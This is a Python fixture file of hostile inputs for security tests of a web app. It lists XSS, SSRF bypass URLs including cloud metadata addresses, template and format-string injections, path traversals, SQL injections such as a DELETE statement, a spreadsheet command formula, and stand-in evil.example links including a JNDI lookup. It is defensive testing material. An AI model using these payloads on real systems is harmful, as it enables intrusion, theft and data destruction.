"""What attackers write: one set for the tests of every entry and every exit."""

# Markup and scripts, for pages, feeds and problems.
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "javascript:alert(1)",
    "</title><svg onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "`${alert(1)}`",
    "]]></script><!--",
)

# What means something to chats, terminals, spreadsheets and letters.
HOSTILE = (
    "<!channel> <!here> <@U012AB3CD> <#C024BE7LR> <!subteam^S0615G0KT>",
    "<https://evil.example/steal|Evidence>",
    "&lt;!channel&gt; &amp; &#60;",
    "*bold* _it_ ~no~ `code` ```block``` > quote",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{7*7}} {% include 'secrets' %} ${jndi:ldap://evil.example/a} %(name)s {0.__class__}",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J bell\x07 back\x08",
    "right\u202eto\u202cleft zero\u200bwidth \u2066isolate\u2069 tag\U000e0041",
    "line one\nline two\r\n\u2028three\u2029four\x0bfive",
    "é" * 4000,
    "👩‍👩‍👧‍👦 العربية עברית 中文",
    "&" * 5000,
    "=cmd|' /C calc'!A0",
)

# Every way to spell something that is not the public internet. Attacks 1, 2, 3 and 5.
REFUSED = (
    # loopback, by every spelling
    "http://127.0.0.1/",
    "http://127.0.0.1:8080/x",
    "http://127.1/",
    "http://127.0.1/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0x7f.0.0.1/",
    "http://0177.0.0.1/",
    "http://017700000001/",
    "http://127.000.000.001/",
    "http://127.0.0.1./",
    "http://0.0.0.0/",
    "http://0/",
    "http://localhost/",
    "http://localhost./",
    "http://LOCALHOST/",
    "http://anything.localhost/",
    "http://[::1]/",
    "http://[::]/",
    "http://[0:0:0:0:0:0:0:1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/",
    "http://[::127.0.0.1]/",
    # private and link-local
    "http://10.0.0.5/",
    "http://172.16.0.1/",
    "http://172.31.255.255/",
    "http://192.168.1.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fe80::1]/",
    "http://[fe80::1%25eth0]/",
    "http://[fc00::1]/",
    "http://[fd00:ec2::254]/",
    "http://metadata.google.internal/",
    "http://printer.local/",
    # special ranges
    "http://100.64.0.1/",
    "http://100.100.100.200/",
    "http://168.63.129.16/",
    "http://192.0.0.8/",
    "http://192.0.0.192/",
    "http://192.88.99.1/",
    "http://198.18.0.1/",
    "http://203.0.113.7/",
    "http://224.0.0.1/",
    "http://255.255.255.255/",
    "http://[64:ff9b::a00:1]/",
    "http://[64:ff9b:1::a00:1]/",
    "http://[2002:a00:1::]/",
    "http://[2001:0:53aa:64c::1]/",
    "http://[2001:db8::1]/",
    "http://[3fff::1]/",
    "http://[ff02::1]/",
    # two parsers, two hosts
    "http://127.0.0.1\\@example.com/",
    "http://example.com\\@127.0.0.1/",
    "http://example.com@127.0.0.1/",
    "http://user:password@example.com/",
    "http://127.0.0.1#@example.com/",
    "http://example.com:80@127.0.0.1/",
    "http://example.com\t.internal/",
    "http://exa\nmple.com/",
    " http://example.com/",
    "http://example.com\x00.internal/",
    "http://127。0。0。1/",
    "http://ⓛocalhost/",
    "http://１２７.0.0.1/",
    "http://%31%32%37.0.0.1/",
    "http://[::1/",
    "http://::1/",
    "http://example.com:0/",
    "http://example.com:99999/",
    "http://example.com:8o/",
    "http://exam..ple/",
    "http:///etc/passwd",
    "http:example.com",
    # other schemes
    "file:///etc/passwd",
    "gopher://example.com/",
    "data:text/plain,hello",
    "ftp://example.com/",
    "s3://bucket/key",
    "javascript:alert(1)",
    "//example.com/",
    "example.com",
    "",
)

# What a template engine, a formatter or a shell would carry out.
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in ().__class__.__subclasses__() %}{{x}}{% endfor %}",
    "{0.__class__.__init__.__globals__}", "%(secret)s", "$(id)", "`id`", "{event.new}", "%s%s%s%n",
)  # fmt: skip

# File names that lead elsewhere.
TRAVERSALS = (
    "../app.py", "..%2fapp.py", "..%252fapp.py", "%2e%2e/%2e%2e/etc/passwd", "....//app.py", "/etc/passwd",
    "..\\app.py", "%5c..%5capp.py", "aiwire.css%00.html", "aiwire.css/../../app.py", "C:%5cwindows", "~root",
)  # fmt: skip

# SQL in the place of a value.
INJECTIONS = (
    "'", "''", "\\'", "' OR '1'='1", "'; DELETE FROM aiwire.event; --", "%' OR 1=1 --", "1) OR (1=1", "$$", "$1", "%s",
    "%(limit)s", "{}", "NULL", "acme'||pg_sleep(9)||'", "(SELECT version())", "E'\\047'", "\\", "%", "_", "*", "**",
)  # fmt: skip
